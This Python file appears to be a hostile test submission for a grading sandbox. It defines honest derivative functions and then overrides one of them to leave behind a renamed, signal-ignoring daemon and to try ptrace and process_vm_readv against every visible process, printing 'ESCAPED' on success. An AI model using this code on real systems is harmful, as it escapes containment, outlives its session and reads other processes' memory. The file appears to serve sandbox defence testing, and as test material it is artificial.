"""Hostile submission (runtime): Leaves a daemon behind (setsid, double fork, signals ignored, renamed) and tries ptrace and process_vm_readv on every process it can see.

An honest 01_derivative, then the attack (later definitions win)."""

import jax
import jax.numpy as jnp
import numpy as np
import sympy as sp


def symbolic_derivative():
    x = sp.Symbol("x")
    return sp.diff(x**3 - 2 * x**2 + 1, x)


def rate_of_change(f, x, dx=1e-6):
    x = np.asarray(x, dtype=float)
    return (f(x + dx) - f(x - dx)) / (2 * dx)


def autodiff_derivative(f):
    return jax.vmap(jax.grad(f))


# --- the attack ---
import ctypes
import os
import signal
import time

NAME = b"calcgrade-hd"  # the test makes it its own and looks for it after the run
_libc = ctypes.CDLL(None, use_errno=True)


def _daemon():
    """setsid + double fork, signals ignored, renamed: a process meant to outlive us."""
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
            signal.signal(sig, signal.SIG_IGN)
        _libc.prctl(15, NAME, 0, 0, 0)  # PR_SET_NAME
        os.chdir("/")
        for fd in range(3, 256):
            try:
                os.close(fd)
            except OSError:
                pass
        time.sleep(60)
    finally:
        os._exit(0)


def _ptrace():
    """Attach to, or read the memory of, every other process we can see."""
    class IoVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid in (os.getpid(), int(os.readlink("/proc/self"))):
            continue
        if _libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            print("ESCAPED: ptrace attached to", pid)
            _libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
        if _libc.ptrace(0x4206, pid, None, None) == 0:  # PTRACE_SEIZE
            print("ESCAPED: ptrace seized", pid)
            _libc.ptrace(17, pid, None, None)
        try:
            with open(f"/proc/{pid}/maps") as fh:
                start = int(fh.readline().split("-")[0], 16)
        except (OSError, ValueError):
            continue
        buf = ctypes.create_string_buffer(64)
        local, remote = IoVec(ctypes.addressof(buf), 64), IoVec(start, 64)
        if _libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
            print("ESCAPED: read the memory of", pid)


def symbolic_derivative():
    _daemon()
    _ptrace()
    return sp.Symbol("x") ** 2  # wrong: nothing here could help
